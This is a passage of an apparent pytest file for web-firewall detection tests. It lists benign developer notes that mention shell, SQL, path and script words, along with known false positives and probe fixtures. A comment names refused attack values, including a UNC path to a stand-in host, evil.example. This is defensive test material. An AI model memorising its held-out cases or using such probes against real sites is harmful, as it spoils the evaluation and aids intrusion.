        "../images/team photo.jpg", "web/info.xml", "meta/info.json",
        "../images/logo.png", ".github/workflows/ci.yml",
    ],
    # Python and Ruby named in notes (25 written with the rules, all pass;
    # 15 written after them: 14 passed, self.__class__.__name__ passes
    # since __class__ alone is no longer the walk)
    "r3-python-ruby": [
        "__init__ runs when the object is created", "the __class__ attribute names the type",
        "Python's __import__ is rarely needed", "os.system() is discouraged; use subprocess",
        "I call os.popen in old scripts", "Kernel panic on boot, help",
        "the IO module handles files", "Open3 is a Ruby library", "%x in printf prints hex",
        "use %x{} carefully in Ruby", "globals() returns a dict",
        "getattr(obj, 'name') reads an attribute", "send the report to Bob",
        "exec summary for Q3", "eval results: 92% accuracy", "lambda functions are anonymous",
        "the __main__ module", "if __name__ == '__main__': main()", "print(os.getcwd())",
        "subprocess.run(['ls'])", "class Foo(Base): pass", "obj.__dict__ holds attributes",
        "Use IO.read to slurp a file", "Kernel#puts prints a line",
        "system requirements: 8 GB RAM",
    ],
    "r3-python-ruby-after": [
        "Override __getattr__ for lazy loading", "Why is __name__ == '__main__' needed?",
        "The os module: os.path, os.environ, os.listdir", "subprocess.run(cmd, check=True)",
        "Ruby's Kernel module is mixed into Object", "IO streams in Ruby are buffered",
        "send(:method_name) calls a method by name", "class_eval is metaprogramming",
        "Python's compile() builtin turns source into code objects",
        "%x is the hex format code", "import os, sys", "from os import path",
        "The __slots__ attribute saves memory",
        "self.__class__.__name__ gives the class name", "Kernel.puts 'hello'",
    ],
    # (28 of 30 passed before; "PowerShell tips and tricks" passes since
    # PowerShell counts when it is run, not named)
    "r3-command-words": [
        "a; b; c", "salt & pepper", "rock | pop | jazz", "id: 12345",
        "x && y are both required", "use -o for output", "-exec is a find option",
        "w is 5 cm", "ver 2.1 release notes", "sleep 10 hours", "dir: left",
        "ls is short for list", "cat & dog", "echo chamber", "PowerShell tips and tricks",
        "cmd + c copies", "ping me; I'm free", "sh: command not found (from the log)",
        "1 && 2 && 3", "x | y", "Tom; Anna; Bob", "A|B testing results", "rm -rf is scary",
        "help; I'm stuck", "whoami is a great podcast", "uname? what's that",
        "the nc (netcat) tool", "curl or wget?", "bash vs zsh",
        "see: https://example.com/a;b",
    ],
    # (25 of 30 passed as written: a parent step stays traversal but one
    # step to a page asset or a document)
    "r3-relative-paths": [
        "../styles/main.css", "./images/a.png", "..", "...", "../README.md", "see ../docs",
        "path/to/file.txt", "a/b/../c", "Q1..Q4 results", "wait...", "1..10",
        "v1.2..v1.3 diff", "C:\\Users\\me\\Desktop\\notes.txt", "~/Documents/cv.pdf",
        "/usr/share/fonts", "%2e is a dot", "the file is at ..\\build\\out.exe",
        "git diff main..feature", "ranges like 2..5", ".. and so on", "home/user/projects",
        "/home/anna/photos", "../../assets/logo.svg", "../lib/utils.js",
        "src/../tests/test_app.py", "D:\\Music\\Jazz\\track01.mp3",
        "see /var/www for the site", "My .gitignore lists node_modules",
        "Open ~/.config/app/settings.json", "the etc folder",
    ],
    # markup and SQL words in text (30 of 30 and 30 of 30 as written)
    "r3-markup-text": [
        "I <3 this place", "a < b > c", "5 > 3 and 2 < 4", "<b>bold</b> text",
        "<i>italic</i> and <em>emphasis</em>", "Use <p> for paragraphs",
        "<a href=\"https://example.com\">link</a>", "<img src=\"cat.jpg\" alt=\"a cat\">",
        "email: <anna@example.com>", "x => x * 2", "-> next step",
        "<!-- TODO --> in html comments", "onload is an event name", "the onerror event",
        "tabs: <Tab> key", "press <Enter>", "List<String> in Java", "Map<K, V> generics",
        "vector<int> v;", "<div class=\"note\">hi</div>",
        "<span style=\"color:red\">red</span>", "<ul><li>one</li></ul>", "<br/>",
        "<h1>Title</h1>", "<code>x</code>", "JavaScript rocks", "alert: server down",
        "prompt engineering tips", "confirm your email", "eval harness results",
    ],
    "r3-sql-words": [
        "O'Brien", "It's a nice day; isn't it?", "Rock 'n' roll", "Select your options below",
        "Union of two sets", "Drop shipping explained", "Order by date",
        "Update: new version out", "Insert tab A into slot B", "Delete old emails",
        "I'm 1 or 2 minutes away", "Where's the or-gate?", "Anna's and Bob's",
        "\"Hello\" she said", "1=1 is true in math", "2+2=4", "the 'and' operator",
        "50% off -- limited", "score: 10/10", "Drop-down menu", "Table of contents",
        "Join our newsletter", "Group by color", "Like this post", "Having fun?",
        "Null and void", "Case study: ACME", "Exec meeting at 3", "Truncate long titles",
        "Values: honesty, care",
    ],
    # (written after the third round's change, to measure it on notes it
    # was not made from: 36 of 40 passed; "$(5)" passes since)
    "r3-after-change": [
        "Remember: array.map() returns a new array",
        "The exec summary is in the shared drive", "I use os.walk() to list files",
        "Python's eval() is dangerous, avoid it", "my ~/.bashrc sets the prompt",
        "look at /etc/fstab to see mounts", "The /proc filesystem is virtual",
        "JavaScript closures are tricky", "call confirm() before deleting",
        "the window.open() popup was blocked", "Node's require() caches modules",
        "include() in PHP templates", "shell_exec() is disabled on our host",
        "We sleep() between retries in the worker", "benchmark() results attached",
        "Use document.querySelector in modern code", "The prompt() asks for a name",
        "Set $PATH before running", "My home is ${HOME} on Linux",
        "read the /etc/passwd man page (man 5 passwd)",
        "SQL: the UNION operator merges results", "Order by name asc please",
        "drop the last column", "Insert the key, then turn", "the process.exit code was 1",
        "__proto__ vs prototype explained", "What does getRuntime() do?",
        "The data: scheme embeds files", "javascript: void operator explained",
        "run make; then make install", "email me; or call", "a|b pipes output",
        "Use && to chain commands in bash", "The ; ends a statement",
        "I paid $(5) for coffee", "see C:\\Windows for system files",
        "phpinfo shows the config", "typeof null is object", "the alert box in the UI",
        "My password reset link expired",
    ],
    # (third round, 2026-12-02: notes of developers, code and commands
    # named in sentences, written before any change: 72 of 104 passed;
    # then the rules learned that a name after a plain word is a word of a
    # sentence (match.word_before_call, xss CODE_BEFORE), that a call with
    # no argument does nothing, that a module or DOM read is no sink; 90
    # pass, the rest are listed below)
    "r3-code-mentions": [
        "use the system() call carefully", "read process.env in node",
        "The sleep(5) call pauses five seconds", "$(document).ready(fn)",
        "Call eval() only on trusted input", "exec() replaces the current process",
        "the os.system() function is deprecated in favour of subprocess",
        "In PHP, include() warns and require() fails",
        "Don't use innerHTML; prefer textContent", "print(len(items))",
        "console.log(user.name)", "const x = require('lodash')",
        "SELECT count(*) FROM orders WHERE day = today() is our nightly report",
        "the alert() dialog blocks the page", "window.location.href = '/home'",
        "document.getElementById('menu')", "$('#menu').toggle()", "$.ajax({url: '/api'})",
        "Math.max(a, b)", "setTimeout(refresh, 5000)", "JSON.parse(body)",
        "fetch('/api/items').then(r => r.json())", "user.save() then redirect",
        "import subprocess; subprocess.run(['ls'])", "os.path.exists(path)",
        "open('notes.txt').read()", "Runtime.getRuntime() returns the singleton",
        "String.format(\"%s\", name)", "printf(\"%d items\\n\", n);",
        "sprintf(buf, \"%s\", s)",
    ],
    "r3-shell-in-docs": [
        "I set ${HOME} in my profile", "export JAVA_HOME=/usr/lib/jvm/default",
        "echo ${PATH}", "cd $HOME/projects", "Use $(pwd) to get the current directory",
        "the output of `uname -r` tells the kernel", "alias ll='ls -la'",
        "chmod 600 ~/.ssh/id_rsa", "sudo systemctl restart nginx", "ps aux | grep python",
        "tail -f /var/log/syslog", "cat notes.txt | wc -l", "for f in *.md; do echo $f; done",
        "crontab -e then add 0 3 * * * backup.sh", "scp file.txt user@host:/tmp/",
        "rsync -avz src/ dest/", "kill -9 1234 if it hangs",
        "Set LANG=C.UTF-8 in the environment", "PS1='\\u@\\h:\\w$ '", "nohup ./server &",
    ],
    "r3-paths-in-prose": [
        "What is /etc/passwd for?", "The users live in /etc/passwd and hashes in /etc/shadow",
        "edit /etc/nginx/nginx.conf and reload", "logs are under /var/log/nginx/access.log",
        "Put it in C:\\Windows\\Temp for now",
        "the hosts file is C:\\Windows\\System32\\drivers\\etc\\hosts",
        "php://stdin reads standard input", "file:///C:/Users/anna/report.html opens locally",
        "see /proc/meminfo for memory", "keys go to ~/.ssh/authorized_keys",
        "The web root is /var/www/html", "config in /etc/app/config.yaml",
        "mount it at /mnt/data", "the socket is /run/docker.sock",
        "WEB-INF holds web.xml in a WAR", "boot.ini was used by Windows XP",
    ],
    "r3-web-prose": [
        "javascript: the good parts", "My favourite book: JavaScript: The Definitive Guide",
        "vbscript: is obsolete", "data: URLs can embed images",
        "The onerror handler logs failures", "onload fires after images load",
        "use <script defer> for speed", "an <iframe> embeds another page",
        "<svg> icons scale well", "The <img> tag needs alt text",
        "style=\"color:red\" is inline CSS", "expression() was an old IE CSS feature",
        "Use {{ variable }} in Jinja templates", "ERB uses <%= value %> tags",
        "${name} in Groovy strings", "#{user} in Ruby strings", "the constructor runs first",
        "__proto__ is deprecated", "__init__ sets up the object", "the __class__ attribute",
    ],
    "r3-sql-prose": [
        "Select * from our menu", "Drop by anytime", "Union Square at noon",
        "Insert coin to continue", "Update your profile, then delete old photos",
        "Order by Friday; group by team", "where 1 = 1 in the demo", "having fun or not",
        "select the union option from the drop-down", "1 or 2 sugars",
        "Add a foreign key from orders to users",
        "I love SQL: SELECT name FROM users is my first query", "Is it null or empty?",
        "Truncate the table name to 10 chars", "Exec summary attached",
        "the char limit is 255", "join us at 7", "case closed",
    ],
}
# Multi-line YAML is text in a body; in a query value a line break
# followed by "name: value" is the shape of header injection (refused).
BENIGN_JSON_ONLY = [
    "---\nname: test\nversion: 2\n",
    "anchors: &base\n  a: 1\nchild:\n  <<: *base",
]

KNOWN_MISSES = {
    # (a UNC path to a foreign host, "\\\\evil.example\\share\\x", is refused
    # since the twenty-eighth round: a dotted host under a public zone)
    # ("a\nid", "id" alone on the line after the value's first, is refused
    # since the thirty-second round: a blind probe on the value's last line)
}
KNOWN_FALSE_POSITIVES = {
    "SELECT count(*) FROM orders WHERE day = today() is our nightly report":
        "a real SELECT ... FROM ... WHERE: SQL is SQL wherever it is written",
    "window.location.href = '/home'": "location is a sink (CRS 941180 counts "
                                      "window.location itself)",
    "setTimeout(refresh, 5000)": "a timer given a global by name runs it as code "
                                 "(setTimeout(name, 1): CRS 941390)",
    "sprintf(buf, \"%s\", s)": "a PHP function as the whole value (CRS 933160 "
                                "counts even strrev( ))",
    "alias ll='ls -la'": "shell syntax: an alias definition is shell code",
    "php://stdin reads standard input": "any php:// stream counts (CRS 933140 "
                                        "counts php://stdout)",
    "vbscript: is obsolete": "vbscript: takes statements without parentheses: "
                             "any word may be one",
    "use <script defer> for speed": "a script tag is a script tag",
    "Select * from our menu": "SELECT * FROM a name is SQL",
    "1 && 2 && 3": "a chain of numbers joined by && is a true SQL condition",
    "..": "a parent step alone: traversal's first probe",
    "a/b/../c": "a parent step inside a path value is traversal",
    "../lib/utils.js": "one parent step to code (source disclosure), not to a "
                       "page asset or a document",
    "src/../tests/test_app.py": "a parent step inside a path value is traversal",
    "shell_exec() is disabled on our host": "a distinctive PHP name called, even "
                                            "empty (CRS 933150 counts FOOgzinflate())",
    "javascript: void operator explained": "void after javascript: starts code "
                                           "to the scheme rule",
}


# A format directive works on the value the application gets: encoded
# twice, it reaches it as "%25*p", text (protocol-format-string reads the
# value as decoded once).
ONCE_ONLY = {"format-string-star"}


ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES, [
    ("encoded-traversal", v) for v in ENCODED_TRAVERSAL])
BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-heldout"), CONF).start()
    yield e
    e.stop()


def statuses(session, edge, cls, value):
    """query (once and twice URL-encoded) and JSON body."""
    keep = "%" if cls == "encoded-traversal" else ""
    return probe_placements(session, edge, value, keep,
                            once_only=cls in ONCE_ONLY)


@pytest.mark.parametrize("cls,value", ATTACK_CASES)
def test_heldout_attack_refused_everywhere(edge, session, cls, value):
    got = statuses(session, edge, cls, value)
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", BENIGN_CASES)
def test_heldout_benign_passes(edge, session, cls, value):
    got = statuses(session, edge, cls, value)
    assert_passes_everywhere(got, cls, value)


@pytest.mark.parametrize("value", BENIGN_JSON_ONLY)
def test_heldout_multiline_yaml_passes_in_a_body(edge, session, value):
    assert not refused(session.post(edge.url + "/probe", json={"note": value}))
    # and in a query value (a form's multi-line text sent by GET) since
    # 2026-12-02 too: a line break after text starts a header only with
    # HTTP's or mail's header names (test_31_waf_detect_heldout_r6,
    # crlf-label; until then any "name:" line was refused there)
    q = urllib.parse.quote(value, safe="")
    assert not refused(session.get(edge.url + "/probe?q=" + q))
